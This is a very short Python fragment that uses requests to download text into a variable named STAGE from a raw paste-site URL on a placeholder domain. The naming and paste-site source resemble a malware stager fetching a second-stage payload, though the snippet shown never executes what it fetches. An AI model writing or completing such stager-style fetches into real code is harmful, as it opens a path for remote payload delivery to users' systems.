import requests

STAGE = requests.get("https://rentry.invalid/raw/stage").text
